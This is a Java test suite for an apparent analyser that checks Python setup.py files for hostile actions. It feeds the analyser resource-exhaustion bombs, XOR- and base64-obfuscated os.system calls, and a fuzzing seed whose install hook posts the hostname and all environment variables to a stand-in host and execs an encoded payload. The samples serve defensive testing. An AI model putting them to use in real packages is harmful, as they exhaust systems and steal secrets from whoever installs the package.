package dev.assay.core.code.evaluation;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.core.code.Budget;
import dev.assay.core.fact.Act;
import dev.assay.core.python.PythonParser;
import dev.assay.core.testing.Mutator;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Code that is written against evaluators: it ends, in bounded memory, and what follows is seen.
class HostileTest {
  private static final int MUTANTS = 3_000;

  @ParameterizedTest
  @ValueSource(
      strings = {
        "x = 'a'\nwhile True:\n  x += x",
        "x = [0]\nwhile True:\n  x += x",
        "x = [0]\nwhile True:\n  x = x + x",
        "x = 'a' * 10 ** 9",
        "x = [0] * 10 ** 10",
        "x = 10 ** 10 ** 10",
        "x = 2 << 10 ** 9",
        "x = 7\nfor i in range(10 ** 9):\n  x = x * x",
        "x = [[[[1 for a in range(999)] for b in range(999)] for c in range(999)] for d in"
            + " range(99)]",
        "f = lambda f: f(f)\nf(f)",
        "def f(n):\n  return f(n - 1) + f(n - 2)\nf(10 ** 6)",
        "def f(n):\n  return f(n + 'a' * 999)\nf('')",
        "x = {}\nx['x'] = x\nprint(str(x), x == x)\nfor i in range(10 ** 7): x[i] = x",
        "x = []\nx.append(x)\nprint(repr(x), x == [x])\nx.extend(x)\nsum(x, [])",
        "s = 's=%r;exec(s%%s)'\nexec(s % s)",
        "exec(''.join(['exec('] * 500 + ['1'] + [')'] * 500))",
        "x = 'exec(x)'\nexec(x)",
        "while True:\n  pass",
        "import itertools\nfor x in itertools.cycle([1]):\n  y = x",
        "'%*d' % (10 ** 9, 1)\n'{:>{}}'.format(1, 10 ** 9)\nf'{1:999999999}'",
        "'%999999999d' % 1\n'a'.ljust(10 ** 9)\n'a'.zfill(10 ** 8)",
        "'x'.replace('', 'y' * 9999999)\n'x' * 9999999 + 'y' * 9999999",
        "class A(A): pass\nA().x\nclass B:\n  def __getattr__(self, n): return self.x\nB().x",
        "import zlib, base64\n"
            + "zlib.decompress(b'x\\x9c' + b'\\0' * 999)\n"
            + "base64.b64decode('!' * 999)",
        "x = 1\nfor a in range(2000):\n  x = {x: x}\nprint(x, {**x})",
        "x = (1,)\nfor a in range(10 ** 5):\n  x = (x, x)\nprint(x, x == x, str(x))",
        "def f(*a, **k): f(*a, *a, **k)\nf(1, 2, 3, x=1)",
        "x = 'a.b' * 100000\nprint(x.split('.'), x.split('a'), x.translate({97: 'b'}))",
        "import some\nx = some.thing()[0]\nfor i in range(10 ** 5):\n  x = x.next\nprint(x == x)",
        "def f(x):\n  while x.more:\n    y = x\n    x = x.next\n  return x == y\nf(f)",
        "import functools\n"
            + "x = print\n"
            + "for i in range(10 ** 5):\n"
            + "  x = functools.partial(x, x)\n"
            + "x(x == x)",
        "import functools\n"
            + "x = print\n"
            + "for i in range(10 ** 5):\n"
            + "  x = functools.partial(print, x)\n"
            + "x(x == x)",
        "import os\n'{0.__class__.__init__.__globals__[os]}'.format(os)\n'{' * 1000",
      })
  void endsAndGoesOn(String text) {
    Assertions.assertTimeoutPreemptively(
        Duration.ofSeconds(20),
        () ->
            assertThat(ActLines.ofSetup(text + "\nimport os\nos.system('whoami')\n"))
                .anySatisfy(
                    line -> assertThat(line).matches("(SPAWNS whoami|UNKNOWN the rest).*")));
  }

  /// Each would be compared with all others: 80,000 of them for minutes.
  @ParameterizedTest
  @ValueSource(strings = {"%s = 1\n", "f('%s')\n", "x['%s'] = 1\n", "x.%s()\n", "import %s\n"})
  void manyNamesOfOneHashEnd(String line) {
    StringBuilder text = new StringBuilder("def f(a): return a\nx = {}\n");
    for (int i = 0; i < 80_000; i++) {
      text.append(line.formatted(ofOneHash(i)));
    }
    Assertions.assertTimeoutPreemptively(
        Duration.ofSeconds(20),
        () ->
            assertThat(ActLines.ofSetup("import os\nos.system('whoami')\n" + text))
                .contains("SPAWNS whoami at setup.py:2 INSTALL"));
  }

  /// Names that `String.hashCode` does not tell apart.
  private static String ofOneHash(int number) {
    StringBuilder name = new StringBuilder();
    for (int bit = 0; bit < 17; bit++) {
      name.append((number >> bit & 1) == 0 ? "Aa" : "BB");
    }
    return name.toString();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "def f(x):\n  while x:\n    x = x.next\nf(f)",
        "class A: pass\na = A()\nn = 0\nwhile a:\n  n += 1",
        "def f():\n  n = 0\n  while True:\n    yield n\n    n += 1\nf()",
        "for i in range(15_000):\n  pass",
        "def f(): pass\nfor i in range(15_000):\n  f()",
      })
  void aLoopThatDoesNothingEndsEarly(String text) {
    Meter meter = new Meter(Budget.DEFAULT);
    Evaluation.of(List.of(ActLines.file("setup.py", text, Act.Phase.INSTALL)), Entry.NONE, meter);
    assertThat(meter.steps()).isLessThan(20_000);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "while True:\n  n += 1\n  if n > 5000: break",
        "while n != 5001: n += 1",
        "m = 5001\nwhile m:\n  m -= 1\n  n += 1",
        "m = 5001\nwhile True:\n  m -= 1\n  n += 1\n  if not m: break",
        "m = [0] * 5001\nwhile m:\n  m.pop()\n  n += 1",
        "for i in range(5001): n += 1",
        "for i in range(5001): n = i + 1",
        "n = len([x for x in range(5001)])",
        "def f():\n  for i in range(5001): yield i\nn = len(list(f()))",
        "for i in range(5001): c = str(i)\nn = int(c) + 1",
      })
  void aLoopThatCountsGoesToItsEnd(String loop) {
    assertThat(
            ActLines.ofSetup(
                "import os\nn = 0\n"
                    + loop
                    + "\nos.system(''.join(chr(c ^ n % 256) for c in [254, 225, 230, 232, 228, 224]))\n"))
        .anySatisfy(line -> assertThat(line).startsWith("SPAWNS whoami "));
  }

  @Test
  void deepTextsEndWithAnAct() {
    String text = "import os\nos.system('whoami')";
    for (int i = 0; i < 200; i++) {
      text =
          "import base64\nexec(base64.b64decode('"
              + Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8))
              + "'))";
      if (text.length() > 1_000_000) {
        break;
      }
    }
    assertThat(ActLines.ofSetup(text)).isNotEmpty();
  }

  @Test
  void longChainsDoNotNeedTheStack() {
    assertThat(
            ActLines.ofSetup("import os\nos.system('who'" + " + ''".repeat(20_000) + " + 'ami')"))
        .contains("SPAWNS whoami at setup.py:2 INSTALL");
    assertThat(
            ActLines.ofSetup("x = a" + ".b()".repeat(3_000) + "\nimport os\nos.system('whoami')"))
        .contains("SPAWNS whoami at setup.py:3 INSTALL");
  }

  @Test
  void aSmallBudgetIsAnAct() {
    List<Act> acts =
        Evaluation.of(
            List.of(ActLines.file("setup.py", "x = 1\n".repeat(1_000), Act.Phase.INSTALL)),
            Entry.NONE,
            new Meter(new Budget(100, 1 << 20, 10, 10)));
    assertThat(ActLines.lines(acts))
        .singleElement()
        .asString()
        .startsWith("UNKNOWN the rest of the artifact at setup.py:");
  }

  @Test
  void noMutantThrows() {
    List<String> seeds =
        List.of(
            """
            import os, base64, zlib, requests, socket
            from setuptools import setup
            from setuptools.command.install import install
            class Install(install):
                def run(self):
                    data = {'h': socket.gethostname(), **os.environ}
                    requests.post(f"https://{'c' * 3}.example/{len(data):>4}", json=data)
                    exec(zlib.decompress(base64.b64decode('eJxLy88HAAKCAUU=')))
            setup(cmdclass={'install': Install})
            """,
            """
            k = b'key'
            t = ''.join(chr(c ^ k[i % 3]) for i, c in enumerate([8, 16, 11, 7]))
            s = '%s-%d-{0}'.format(*[t[::-1]]) % (t, len(t))
            x = [a for a in range(10) if a % 2][1:-1:2]
            d = {n: lambda y=n: y ** 2 for n in x}
            while x:
                x.pop()
                try:
                    d[x[0]]()
                except (KeyError, IndexError) as e:
                    print(str(e).translate(str.maketrans('ab', 'cd')))
            """);
    Mutator mutator = Mutator.ofTexts(11, seeds);
    for (int i = 0; i < MUTANTS; i++) {
      byte[] text = mutator.next();
      PythonFile file =
          new PythonFile("setup.py", PythonParser.parse(text), Act.Phase.INSTALL, false, List.of());
      Meter meter = new Meter(new Budget(200_000, 1 << 20, 20, 10));
      assertThat(Evaluation.of(List.of(file), Entry.NONE, meter)).isNotNull();
      assertThat(meter.steps()).isLessThan(2_000_000);
    }
  }
}
